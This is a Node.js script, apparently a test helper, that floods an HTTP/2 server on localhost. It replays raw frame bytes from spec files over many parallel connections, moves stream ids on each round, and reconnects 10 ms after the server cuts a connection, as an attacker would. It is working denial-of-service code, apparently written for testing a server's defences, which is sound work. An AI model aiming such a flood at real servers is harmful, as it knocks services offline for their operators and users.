// An HTTP/2 flood in a process of its own, so that the attacker's CPU is not the innocent
// client's: `node h2-flood-attacker.mjs PORT SPEC_FILE`. The spec (JSON) names files of bytes:
// `opening` (sent once per connection), `repeat` (sent again and again while the connection
// stays open, its stream ids moved past the last round's each time, or sent once when `once`),
// `width` connections at a time. A connection the server closes, or ends with a GOAWAY naming
// an error, is replaced 10 ms later, as an attacker would; `isReading` false: nothing the
// server sends is read (nor a GOAWAY seen). The attack stops when standard input ends; the
// last line of standard output is then a JSON summary: connections opened, connections cut by
// the server, bytes written.
import { readFileSync } from 'node:fs';
import net from 'node:net';

const [port, specFile] = process.argv.slice(2);
const spec = JSON.parse(readFileSync(specFile, 'utf8'));
const opening = readFileSync(spec.opening);
const repeat = readFileSync(spec.repeat);
const GOAWAY = 7;

/** Where each frame of `bytes` names its stream, and the highest stream id named. */
function streamFields(bytes) {
  const at = [];
  let highest = 0;
  for (let offset = 0; offset + 9 <= bytes.length; offset += 9 + bytes.readUIntBE(offset, 3)) {
    const id = bytes.readUInt32BE(offset + 5);
    if (id !== 0) at.push(offset + 5);
    highest = Math.max(highest, id);
  }
  return { at, highest };
}

const fields = streamFields(repeat);
/** Stream ids a round of `repeat` moves on by. */
const step = fields.highest + (fields.highest % 2);

/** `repeat` with its stream ids moved on `round` rounds. */
function moved(round) {
  if (round === 0 || fields.at.length === 0) return repeat;
  const copy = Buffer.from(repeat);
  for (const at of fields.at) copy.writeUInt32BE(copy.readUInt32BE(at) + round * step, at);
  return copy;
}

let isStopped = false;
let opened = 0;
let cut = 0;
let written = 0;
const sockets = new Set();

/** Calls `onGoaway` when the server's bytes hold a GOAWAY with an error code. */
function watchGoaway(socket, onGoaway) {
  let pending = Buffer.alloc(0);
  socket.on('data', (chunk) => {
    pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk]);
    let offset = 0;
    while (offset + 9 <= pending.length) {
      const length = pending.readUIntBE(offset, 3);
      if (offset + 9 + length > pending.length) break;
      if (pending[offset + 3] === GOAWAY && length >= 8) {
        if (pending.readUInt32BE(offset + 13) !== 0) onGoaway();
      }
      offset += 9 + length;
    }
    pending = pending.subarray(offset);
  });
}

function open() {
  if (isStopped) return;
  opened += 1;
  const socket = net.connect(Number(port), '127.0.0.1');
  sockets.add(socket);
  socket.on('error', () => undefined);
  let isCut = false;
  const replace = () => {
    if (isCut) return;
    isCut = true;
    sockets.delete(socket);
    socket.destroy();
    if (isStopped) return;
    cut += 1;
    setTimeout(open, 10);
  };
  if (spec.isReading === false) socket.pause();
  else watchGoaway(socket, replace);
  let round = 0;
  const send = () => {
    if (socket.destroyed || isCut || isStopped) return;
    const bytes = moved(round++);
    written += bytes.length;
    const flushed = socket.write(bytes);
    if (spec.once === true) return;
    if (flushed) setImmediate(send);
    else socket.once('drain', send);
  };
  written += opening.length;
  socket.write(opening);
  send();
  socket.once('close', replace);
}

for (let i = 0; i < spec.width; i++) open();
process.stdin.resume();
process.stdin.once('end', () => {
  isStopped = true;
  for (const socket of sockets) socket.destroy();
  process.stdout.write(`${JSON.stringify({ opened, cut, written })}\n`);
  process.exit(0);
});
